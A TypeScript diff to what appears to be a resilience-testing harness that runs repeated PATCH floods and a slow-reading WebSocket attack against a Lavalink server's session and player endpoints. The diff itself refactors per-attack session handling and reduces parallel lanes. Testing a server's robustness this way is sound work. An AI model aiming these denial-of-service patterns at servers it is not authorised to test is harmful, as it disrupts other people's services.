@@ -10,8 +10,6 @@ interface HostileSession {
   readonly socket: WebSocket
 }
 
-const sessions = new WeakMap<Attacker, Promise<HostileSession>>()
-
 async function connect({ baseUrl, key, userId }: Attacker): Promise<HostileSession> {
   const headers = { authorization: key, 'user-id': userId, 'client-name': 'attacker/1.0.0' }
   const socket = new WebSocket(`${baseUrl.replace('http', 'ws')}/v4/websocket`, { headers })
@@ -21,13 +19,20 @@ async function connect({ baseUrl, key, userId }: Attacker): Promise<HostileSessi
   return { id: ready.sessionId, socket }
 }
 
-/** The session that it has, or another one where that has ended. */
-async function sessionOf(attacker: Attacker): Promise<HostileSession> {
-  const known = await sessions.get(attacker)?.catch(() => null)
-  if (known && known.socket.readyState === WebSocket.OPEN) return known
-  const next = connect(attacker)
-  sessions.set(attacker, next)
-  return next
+/** What the attacker has open. */
+let current: { readonly attack: string; readonly session: Promise<HostileSession> } | null = null
+
+/** One session for each attack, and another one where that has ended. With the one before, its players go. */
+async function sessionOf(attacker: Attacker, attack: string): Promise<HostileSession> {
+  if (current?.attack !== attack) {
+    void current?.session.then(({ socket }) => socket.terminate()).catch(() => undefined)
+    current = { attack, session: connect(attacker) }
+  }
+  const mine = current
+  const session = await mine.session.catch(() => null)
+  if (session?.socket.readyState === WebSocket.OPEN) return session
+  if (current === mine) current = { attack, session: connect(attacker) }
+  return current.session
 }
 
 function guildOf(number: number): string {
@@ -47,12 +52,13 @@ interface Way {
 }
 
 /** A `PATCH` of a player, again and again. */
-function patches({ name, lanes = 8, body, guild = guildOf }: Way): Attack {
+function patches({ name: way, lanes = 5, body, guild = guildOf }: Way): Attack {
+  const name = `lavalink: ${way}`
   return {
-    name: `lavalink: ${name}`,
+    name,
     lanes,
     async once(attacker, lane, turn) {
-      const { id } = await sessionOf(attacker)
+      const { id } = await sessionOf(attacker, name)
       const path = `/v4/sessions/${id}/players/${guild(lane, turn)}`
       return withMessage(await attacker.call('PATCH', path, body(attacker, lane, turn)))
     },
@@ -118,9 +124,9 @@ export const LAVALINK_ATTACKS: readonly Attack[] = [
   },
   {
     name: 'lavalink: a socket that never reads',
-    lanes: 8,
+    lanes: 5,
     async once(attacker, lane, turn) {
-      const { id, socket } = await sessionOf(attacker)
+      const { id, socket } = await sessionOf(attacker, 'a socket that never reads')
       socket.pause()
       const userData = { text: 'x'.repeat(15_000) }
       const path = `/v4/sessions/${id}/players/${guildOf(lane)}`
